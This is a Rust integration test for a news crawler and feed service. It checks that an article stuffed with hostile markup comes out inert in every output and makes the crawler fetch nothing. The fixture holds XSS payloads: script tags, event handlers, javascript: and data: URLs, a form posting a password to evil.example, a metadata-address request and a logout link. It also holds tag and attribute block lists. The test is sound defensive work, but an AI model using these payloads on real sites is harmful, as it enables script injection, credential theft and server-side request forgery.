//! An article that means harm: what pages and feeds say of it is inert, and the crawler asks for nothing that it names.

use std::collections::HashSet;

use scraper::{Html, Selector};

use crate::serving::Server;

const PAGE: &str = "http://kenya.example/news/kakuma-clinic-screens-its-10000th-refugee-before-resettlement";

/// Everything that a page could try, each with a word that shows where it ends up.
const BODY: &str = r#"
<p onclick="quokka1()" style="background:url(http://evil.example/style.png)">Harm begins here, with <b onmouseover=quokka2()>bold</b> words.</p>
<script>quokka3()</script><script src="http://evil.example/quokka4.js"></script><noscript><img src="http://evil.example/noscript.gif"></noscript>
<p><a href="javascript:quokka5()">one</a> <a href="JaVa&#9;ScRiPt:quokka6()">two</a> <a href="data:text/html,<script>quokka7()</script>">three</a>
<a href="vbscript:quokka8()">four</a> <a href="/user/logout">out</a> <a href="http://169.254.169.254/latest/">meta</a> <a href="//evil.example/x" target="_top" ping="http://evil.example/ping">five</a></p>
<svg onload="quokka9()"><a xlink:href="javascript:quokka10()"><text>svgword</text></a></svg><math><mi xlink:href="javascript:quokka11()">mathword</mi></math>
<p><img src="http://169.254.169.254/latest/meta-data/" onerror="quokka12()" alt="cloud"> <img src="/user/logout" alt="bye"> <img src="/tracker.gif?quokkaimg" srcset="/tracker2.gif 2x" alt="pixel">
<img src="javascript:quokka13()" alt="bad"> <img src="data:image/svg+xml,<svg onload=quokka14()>" alt="worse"></p>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o.swf"></object><embed src="http://evil.example/e.swf"><video poster="/poster.gif" src="/film.mp4"></video><audio src="/sound.mp3"></audio>
<form action="http://evil.example/steal"><input name="password"><button formaction="javascript:quokka15()">go</button></form>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh"><link rel="stylesheet" href="http://evil.example/l.css"><link rel="prefetch" href="/user/logout?prefetch">
<style>@import url(http://evil.example/i.css); body{display:none}</style><template><p onclick="quokka16()">templateword</p></template>
<p>]]&gt;&lt;script&gt;quokka17()&lt;/script&gt; and <!-- --!><script>quokka18()</script> --> an end.</p>
<p><a href="/files/report.pdf">The report</a></p>"#;

fn page() -> Vec<u8> {
    let text = include_str!("../../../fixtures/kenya/kakuma.html")
        .replace("<p>The clinic has therefore", &format!("{BODY}<p>The clinic has therefore"))
        .replace("10,000th Refugee Before Resettlement</span>", "10,000th &lt;script&gt;quokkatitle()&lt;/script&gt;\" onload=\"x</span>")
        .replace(
            "</head>",
            "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">\
             <meta property=\"og:image\" content=\"http://169.254.169.254/og.png\">\
             <meta property=\"og:image:alt\" content=\"<script>quokkaalt()</script>\">\
             <meta name=\"author\" content=\"<script>quokkaauthor()</script>\">\
             <link rel=\"canonical\" href=\"http://haiti.example/fr/news/un-article\">\
             <script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"author\":{\"name\":\"</p><script>quokkald()\"},\"image\":\"javascript:quokka19()\"}</script></head>",
        );
    assert!(text.contains("quokkatitle") && text.contains("quokka17"), "the fixture is another");
    text.into_bytes()
}

/// Markup as a browser would read it: nothing that runs, loads by itself, sends, or stands at an address of whoever shows it.
fn is_inert(name: &str, markup: &str, own: bool) {
    let tree = Html::parse_fragment(markup);
    let all = Selector::parse("*").unwrap();
    for element in tree.select(&all).map(|e| e.value()) {
        let tag = element.name();
        let never = [
            "script", "iframe", "object", "embed", "svg", "math", "base", "frame", "applet", "template", "video",
            "audio", "noscript",
        ];
        assert!(!never.contains(&tag), "{name}: <{tag}>");
        assert!(own || !["form", "input", "button", "link", "meta", "style"].contains(&tag), "{name}: <{tag}>");
        for (attribute, value) in element.attrs() {
            let place = format!("{name}: <{tag} {attribute}={value:?}>");
            assert!(!attribute.starts_with("on") && !attribute.contains(':'), "{place}");
            assert!(
                !["style", "srcset", "ping", "formaction", "srcdoc", "poster", "http-equiv", "target"]
                    .contains(&attribute),
                "{place}"
            );
            if ["href", "src", "action"].contains(&attribute) {
                let plain = ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
                // Within an article no address is a relative one: it would be the reader's own host.
                assert!(plain || own && value.starts_with('/') && !value.starts_with("//"), "{place}");
                assert!(!value.contains("quokka1"), "{place}");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_article_that_means_harm_is_inert_everywhere_and_makes_us_ask_for_nothing() {
    let html = [("content-type".to_owned(), "text/html; charset=utf-8".to_owned())];
    let server = Server::with(&["haiti-fr", "kenya"], |house| house.replay.answer(PAGE, 200, &html, page())).await;

    // The crawler asked for pages and robots.txt: no picture, no script, no link of an article, no host but the offices'.
    let asked: HashSet<String> = server.house.replay.take_asked().into_iter().map(|(url, _)| url).collect();
    assert!(asked.contains(PAGE), "{asked:?}");
    for url in &asked {
        for word in
            ["logout", "169.254", "evil", "tracker", ".gif", ".png", ".jpg", ".js", ".css", ".pdf", ".mp", "prefetch"]
        {
            assert!(!url.contains(word), "asked for {url}");
        }
    }

    let all = server.json("/feed.json?body=full&explain=1&limit=200&source=kenya").await;
    let item =
        all["items"].as_array().unwrap().iter().find(|i| i["url"] == PAGE).expect("it is stored under its own address");
    let content = item["content_html"].as_str().unwrap();
    // It is there, with its words and its links, and that is all.
    assert!(content.contains("Harm begins here") && content.contains("http://kenya.example/user/logout"), "{content}");
    assert!(item["title"].as_str().unwrap().contains("<script>quokkatitle()"), "the title is text: {}", item["title"]);
    for word in
        ["svgword", "mathword", "templateword", "quokka3", "quokka5", "quokka9", "quokka12", "quokka13", "javascript:"]
    {
        assert!(!content.contains(word), "{word}: {content}");
    }
    is_inert("json", content, false);

    // Pages of our own: the article's, the list, and the API's copy.
    let id = item["_depeche"]["article_id"].as_str().unwrap();
    for path in [
        format!("/articles/{id}?ui=en"),
        format!("/articles/{id}?ui=fr"),
        "/?limit=200&dedupe=none".to_owned(),
        "/?q=quokkatitle".to_owned(),
    ] {
        let response = server.get(&path, &[]).await;
        let policy = response.headers()["content-security-policy"].to_str().unwrap().to_owned();
        assert!(
            policy.contains("default-src 'none'") && policy.contains("img-src 'self'") && !policy.contains("script"),
            "{policy}"
        );
        let text = response.text().await.unwrap();
        assert!(text.contains("&lt;script&gt;quokkatitle()") && !text.to_lowercase().contains("<script"), "{path}");
        is_inert(&path, &text, true);
    }
    let copy = server.json(&format!("/api/v1/articles/{id}?body=full&explain=1")).await;
    is_inert("api", copy["data"]["html"].as_str().unwrap(), false);

    // The XML formats, as readers read them: titles are text, contents are inert.
    for format in ["atom", "rss"] {
        let bytes =
            server.get(&format!("/feed.{format}?body=full&limit=200&source=kenya"), &[]).await.bytes().await.unwrap();
        let feed = feed_rs::parser::parse(&bytes[..]).unwrap();
        let entry = feed.entries.iter().find(|e| e.links.iter().any(|l| l.href == PAGE)).unwrap();
        assert!(entry.title.as_ref().unwrap().content.contains("quokkatitle()"), "{format}");
        let body = entry.content.iter().find_map(|c| c.body.clone()).unwrap();
        assert!(body.contains("Harm begins here"), "{format}: {body}");
        is_inert(format, &body, false);
        let text = String::from_utf8(bytes.to_vec()).unwrap();
        assert!(!text.contains("javascript:") && !text.contains("xlink:href") && !text.contains("<svg"), "{format}");
    }

    // An office speaks for its own addresses alone: the canonical address that it claims on another host is not believed.
    let haiti = server.json("/feed.json?body=full&limit=200&source=haiti-fr").await;
    let haiti = haiti["items"].as_array().unwrap();
    assert!(!haiti.is_empty() && haiti.iter().all(|i| !i.to_string().contains("quokka")));
    server.line.stop.cancel();
}
